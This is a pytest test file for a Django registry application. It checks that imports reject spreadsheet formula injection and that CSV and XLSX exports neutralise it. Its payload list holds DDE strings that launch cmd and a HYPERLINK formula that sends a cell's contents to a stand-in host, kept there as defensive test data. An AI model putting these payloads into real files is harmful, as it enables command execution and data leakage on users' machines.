"""Formula injection (issue 14 §9): imports refuse formulas, error files and exports never carry a live one.

The payloads are the probe's: ``=1+cmd|' /C calc'!A0`` and the variants the old check missed (``-2+3+cmd…``,
``+1+cmd…``), which a spreadsheet evaluates because the cell begins with ``=``, ``+``, ``-`` or ``@``.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse

from fazhi.core.exporting import is_formula_like, safe_cell, safe_csv_writer, unescape_cell, xlsx_append
from fazhi.core.importing import formula_in_cell, run_import
from fazhi.registry.importers import EntityImporter
from fazhi.registry.models import MarketEntity
from fazhi.rulebook.identifiers import make_uscc

PAYLOADS = [
    "=1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
]
PLAIN = ["-5", "+86 138 1234 5678", "-", "12.50", "天津市东丽区", "a=b", "'引号开头"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_导入检查识别公式(payload):
    assert formula_in_cell(payload)


@pytest.mark.parametrize("value", PLAIN)
def test_普通数值与文字不是公式(value):
    assert not formula_in_cell(value)


@pytest.mark.parametrize("payload", [*PAYLOADS, "\t=1+1", "\r=1+1", " =1+1"])
def test_导出单元格_公式开头一律加撇号_导入时原样还原(payload):
    cell = safe_cell(payload)
    assert cell.startswith("'") and is_formula_like(payload)
    assert unescape_cell(cell) == payload


def test_数字日期等非文本值原样导出():
    assert safe_cell(-5) == -5 and safe_cell("天津") == "天津" and safe_cell("") == ""


@pytest.mark.django_db
def test_导入_公式单元格被拒绝_错误文件中已中和_再导入仍被拒绝(tmp_path, department):
    header = ["统一社会信用代码", "企业名称", "主体类型", "成立日期", "登记状态", "住所"]
    usccs = [make_uscc("120110", "91", f"MA05K1B{i}") for i in range(4)]
    buf = io.StringIO(newline="")
    writer = csv.writer(buf)
    writer.writerow(header)
    for uscc, payload in zip(usccs, PAYLOADS, strict=False):
        writer.writerow([uscc, "某公司", "企业", "2020-01-02", "存续", payload])
    path = tmp_path / "f.csv"
    path.write_text(buf.getvalue(), "utf-8")
    result = run_import(EntityImporter(), path)
    assert result.rejected == 4 and result.created == 0
    assert {e.code for e in result.errors} == {"cell.formula"}
    assert not MarketEntity.objects.exists()
    with open(result.error_file, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows[1:] for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
    assert "'=1+cmd|' /C calc'!A0" in cells
    again = run_import(EntityImporter(), Path(result.error_file))
    assert again.rejected == 4 and {e.code for e in again.errors} == {"cell.formula"}


def test_CSV写出器逐格中和():
    buf = io.StringIO()
    safe_csv_writer(buf).writerow(["=1+1", "ok", 3])
    assert buf.getvalue().strip() == "'=1+1,ok,3"


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def test_XLSX写出_文本单元格不是公式_值不变():
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    xlsx_append(wb.active, ["名称", *PAYLOADS, 5])
    out = io.BytesIO()
    wb.save(out)
    xml = _sheet_xml(out.getvalue())
    assert "<f>" not in xml and "<f " not in xml
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    values = [c.value for c in ws[1]]
    assert values == ["名称", *PAYLOADS, 5]
    assert all(c.data_type == "s" for c in ws[1][1:6])
    assert all(c.quotePrefix for c in ws[1][1:6])


@pytest.mark.django_db
def test_公开权责清单导出_匿名下载_不含公式(client, role_users, department):
    from fazhi.powers.tests.factories import D2022, approved_batch

    approved_batch(
        role_users["section_chief"],
        role_users["leader"],
        "基线",
        D2022,
        [("add", "CF-001", "=1+cmd|' /C calc'!A0"), ("add", "CF-002", "-2+3+cmd|' /C calc'!A0")],
        department=department,
    )
    response = client.get(reverse("publicity:public_powers:export"), {"on": "2023-06-01"})
    assert response.status_code == 200
    xml = _sheet_xml(response.content)
    assert "<f>" not in xml and "<f " not in xml
    assert re.search(r"=1\+cmd", xml) and re.search(r"-2\+3\+cmd", xml)  # shown as text, unchanged
